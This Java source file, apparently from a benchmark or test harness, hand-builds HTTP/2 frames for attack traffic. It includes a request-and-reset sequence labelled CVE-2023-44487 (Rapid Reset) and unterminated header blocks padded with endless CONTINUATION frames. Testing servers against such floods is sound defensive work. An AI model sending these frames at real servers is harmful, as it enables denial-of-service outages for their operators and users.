package dev.nameplate.bench;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/// HTTP/2 frames (RFC 9113 section 4) as an attacker writes them: one by one, also such as no library would.
final class Frames {
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;

    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;

    private Frames() {}

    static byte[] preface() {
        return joined(
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII), settings());
    }

    static byte[] settings() {
        return frame(SETTINGS, 0, 0);
    }

    static byte[] ping() {
        return frame(PING, 0, 0, new byte[8]);
    }

    /// A request that is given up at once (CVE-2023-44487).
    static byte[] requestAndReset(int stream, String host) {
        return joined(
                frame(HEADERS, END_HEADERS | END_STREAM, stream, request(host)),
                frame(RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array()));
    }

    /// A header block that goes on.
    static byte[] openRequest(int stream, String host) {
        return frame(HEADERS, END_STREAM, stream, request(host));
    }

    static byte[] continuation(int stream, int n) {
        return frame(CONTINUATION, 0, stream, field("x-" + n, "y"));
    }

    private static byte[] request(String host) {
        return joined(
                field(":method", "GET"),
                field(":scheme", "https"),
                field(":authority", host),
                field(":path", PeerOrigin.FRESH));
    }

    /// A literal without index and without Huffman coding (RFC 7541 section 6.2.2); both are shorter than 127.
    private static byte[] field(String name, String value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0);
        out.write(name.length());
        out.writeBytes(name.getBytes(StandardCharsets.US_ASCII));
        out.write(value.length());
        out.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte... payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
